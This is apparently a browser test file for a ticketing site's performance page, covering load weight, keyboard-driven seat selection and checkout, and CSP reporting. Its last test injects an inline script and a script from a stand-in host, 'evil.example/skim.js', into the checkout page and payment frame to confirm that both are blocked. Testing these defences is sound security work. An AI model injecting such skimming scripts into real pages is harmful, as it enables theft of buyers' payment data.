import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import type { Browser } from 'playwright-core';
import { seedDemo } from '../../src/catalog/demo-seed.js';
import { admin } from '../helpers/app.js';
import { createShow, hold } from '../helpers/fixtures.js';
import { expectCount, fillBuyer, ticketsOnOrderPage } from './flows.js';
import { browserSkipReason, launchBrowser, startServer, withPage, type LiveServer } from './harness.js';
import { byId, byTestId, focused, tabTo } from './keyboard.js';

const skip = browserSkipReason();
const kb = (bytes: number) => `${(bytes / 1024).toFixed(1)} KB`;

describe('browser performance page', { skip }, () => {
  let server: LiveServer;
  let browser: Browser;
  let demoPerformance: string;
  before(async () => {
    [server, browser] = await Promise.all([startServer(), launchBrowser()]);
    const seeded = await seedDemo(server.t.ctx.db);
    assert.ok(seeded, 'the fresh test database had no events');
    demoPerformance = seeded.performanceIds[0]!;
    // These tests measure and drive the map itself; the demo's waiting room is switched off.
    const off = await server.t.app.inject({
      method: 'PUT',
      url: `/api/admin/performances/${demoPerformance}/queue`,
      headers: admin,
      payload: { enabled: false },
    });
    assert.equal(off.statusCode, 200, off.body);
  });
  after(async () => {
    await browser?.close();
    await server?.close();
  });

  test('browser: the 3,000-seat demo map: JS+CSS weight and time to interactive are printed', { timeout: 30_000 }, async () => {
    await withPage(browser, async ({ page, problems }) => {
      const assets: Promise<{ path: string; raw: number; gzip: number; sent: number; encoding: string }>[] = [];
      page.on('response', (response) => {
        const url = new URL(response.url());
        if (url.origin !== server.baseUrl || !/\.(js|css)$/.test(url.pathname)) return;
        // body() is decoded; sizes() has what came over the wire (whatever the server compressed it with).
        assets.push(
          Promise.all([response.body(), response.request().sizes()]).then(([body, sizes]) => ({
            path: url.pathname,
            raw: body.length,
            gzip: gzipSync(body).length,
            sent: sizes.responseBodySize,
            encoding: response.headers()['content-encoding'] ?? 'identity',
          })),
        );
      });
      const started = Date.now();
      await page.goto(`${server.baseUrl}/performances/${demoPerformance}`);
      // Interactive: the map's tab stop is drawn, so a seat can take focus and a click.
      const inPage = await page.waitForFunction(
        () => {
          const doc = (globalThis as unknown as { document: { querySelector(s: string): unknown } }).document;
          return doc.querySelector('[data-testid=seat-map][data-interactive=true] [data-testid=seat][tabindex="0"]') ? performance.now() : 0;
        },
        undefined,
        { polling: 'raf', timeout: 15_000 },
      );
      const tti = Math.round(await inPage.jsonValue());
      const wall = Date.now() - started;
      assert.equal(await page.locator('[data-testid=seat]').count(), 3000);

      await page.waitForLoadState('networkidle');
      const files = await Promise.all(assets);
      const sum = (kind: string, key: 'raw' | 'gzip' | 'sent') => files.filter((f) => f.path.endsWith(kind)).reduce((total, f) => total + f[key], 0);
      const encodings = [...new Set(files.map((f) => f.encoding))].join(', ');
      console.log(
        `# metric performance page JS: ${kb(sum('.js', 'gzip'))} gzip (${kb(sum('.js', 'raw'))} raw), CSS: ${kb(sum('.css', 'gzip'))} gzip (${kb(sum('.css', 'raw'))} raw)`,
      );
      console.log(
        `# metric performance page JS+CSS: ${kb(sum('.js', 'gzip') + sum('.css', 'gzip'))} gzip in ${files.length} files;` +
          ` ${kb(sum('.js', 'sent') + sum('.css', 'sent'))} sent by the server (content-encoding: ${encodings})`,
      );
      for (const f of files) console.log(`# metric   ${f.path}: ${kb(f.gzip)} gzip, ${kb(f.sent)} sent, ${kb(f.raw)} raw`);
      console.log(`# metric performance page time to interactive (3,000 seats): ${tti} ms from navigation start (${wall} ms around goto + wait)`);
      assert.ok(
        files.some((f) => f.path.includes('/performance-')),
        'the seat map arrives in its own chunk',
      );
      assert.ok(!files.some((f) => f.path.includes('/console-')), 'a fan never downloads the console');
      assert.deepEqual(problems, []);
    });
  });

  test('browser: the seat map works from the keyboard (Tab in, arrows, Space and Enter)', { timeout: 30_000 }, async () => {
    await withPage(browser, async ({ page, problems }) => {
      await page.goto(`${server.baseUrl}/performances/${demoPerformance}`);
      await page.locator('[data-testid=seat-map][data-interactive=true]').waitFor();
      const first = await tabTo(page, byTestId('seat'));
      await page.keyboard.press('Space');
      await page.locator(`[data-testid=seat][data-seat-id="${first.seatId}"][data-selected=true]`).waitFor();
      await expectCount(page.getByTestId('selected-seat'), 1);

      await page.keyboard.press('ArrowRight');
      const second = await focused(page);
      assert.equal(second?.testId, 'seat');
      assert.notEqual(second.seatId, first.seatId, 'the arrow moved to the next seat');
      await page.keyboard.press('Enter');
      await expectCount(page.getByTestId('selected-seat'), 2);

      await page.keyboard.press('ArrowDown');
      const below = await focused(page);
      assert.equal(below?.testId, 'seat');
      await page.keyboard.press('ArrowUp');
      assert.equal((await focused(page))?.seatId, second.seatId, 'down then up comes back');
      await page.keyboard.press('Space');
      await expectCount(page.getByTestId('selected-seat'), 1);
      assert.match(await page.getByTestId('announcer').innerText(), /1/);
      assert.deepEqual(problems, []);
    });
  });

  test('browser: a purchase with the keyboard only, card form included', { timeout: 30_000 }, async () => {
    const show = await createShow(server.t.app, { rows: 2, perRow: 10 });
    await withPage(browser, async ({ page, problems }) => {
      await page.goto(`${server.baseUrl}/performances/${show.performanceId}`);
      await page.locator('[data-testid=seat-map][data-interactive=true]').waitFor();
      await tabTo(page, byTestId('seat'));
      await page.keyboard.press('Space');
      await page.keyboard.press('ArrowRight');
      await page.keyboard.press('Space');
      await expectCount(page.getByTestId('selected-seat'), 2);
      await tabTo(page, byTestId('hold-seats'));
      await page.keyboard.press('Enter');

      await page.waitForURL(/\/checkout\//);
      await page.getByTestId('buyer-form').waitFor();
      await tabTo(page, byTestId('buyer-name'));
      await page.keyboard.type('Kari Nordmann');
      await page.keyboard.press('Tab');
      await page.keyboard.type('kari@example.com');
      await page.keyboard.press('Enter');

      await page.getByTestId('payment-frame').waitFor();
      const frame = await (await page.getByTestId('payment-frame').elementHandle())!.contentFrame();
      assert.ok(frame);
      await frame.locator('#cardNumber').waitFor();
      await tabTo(page, byId('cardNumber'), frame);
      await page.keyboard.type('4242 4242 4242 4242');
      await page.keyboard.press('Tab');
      await page.keyboard.type('12/30');
      await page.keyboard.press('Tab');
      await page.keyboard.type('123');
      await page.keyboard.press('Enter');

      const codes = await ticketsOnOrderPage(page, 2);
      assert.ok(codes.every((code) => server.t.ctx.tickets.verify(code)));
      assert.deepEqual(problems, []);
    });
  });

  test('browser: the harness notices CSP violations in the page and in the payment frame', { timeout: 20_000 }, async () => {
    // Guards the `problems` assertions of the other tests against passing vacuously.
    const show = await createShow(server.t.app, { rows: 1, perRow: 5 });
    const held = await hold(server.t.app, show.performanceId, { categoryId: show.categories.Front, quantity: 1 });
    await withPage(browser, async ({ page, problems }) => {
      // Code that got into a page tries both ways in: a script built from a string (refused by
      // Trusted Types before any CSP check) and a script from another origin (refused by the CSP).
      const inject = () => {
        const doc = (
          globalThis as unknown as { document: { createElement(t: string): { textContent: string; src: string }; body: { append(n: unknown): void } } }
        ).document;
        try {
          doc.createElement('script').textContent = 'globalThis.inlineRan = true';
        } catch {
          // Trusted Types: refused and reported.
        }
        try {
          const script = doc.createElement('script');
          script.src = 'https://evil.example/skim.js';
          doc.body.append(script);
        } catch {
          // Trusted Types again: a script URL must come from the page's own policy.
        }
      };
      // The hold was made through the API, not in this tab: give the tab its token, as a hold made here would have.
      const { holdId, holdToken } = held.json();
      await page.goto(`${server.baseUrl}/`);
      await page.evaluate(([id, token]) => globalThis.sessionStorage.setItem(`taquilla.hold.${id}`, JSON.stringify(token)), [holdId, holdToken]);
      await page.goto(`${server.baseUrl}/checkout/${holdId}`);
      await fillBuyer(page);
      const frame = await (await page.getByTestId('payment-frame').elementHandle())!.contentFrame();
      await frame!.locator('#cardNumber').waitFor();
      await page.evaluate(inject);
      await frame!.evaluate(inject);
      const seen = () =>
        problems.some((p) => p.includes(`${server.baseUrl}/checkout/`)) &&
        problems.some((p) => p.includes(`${server.paymentOrigin}/pay/`)) &&
        problems.some((p) => p.startsWith('CSP console:'));
      for (let i = 0; i < 60 && !seen(); i++) await new Promise((resolve) => setTimeout(resolve, 50));
      const reported = problems.join('\n');
      assert.ok(
        problems.some((p) => p.startsWith('CSP violation: require-trusted-types-for') && p.includes(`${server.baseUrl}/checkout/`)),
        reported,
      );
      assert.ok(
        problems.some((p) => p.startsWith('CSP violation: require-trusted-types-for') && p.includes(`${server.paymentOrigin}/pay/`)),
        reported,
      );
      assert.ok(
        problems.some((p) => p.startsWith('CSP console:')),
        reported,
      );
    });
  });
});
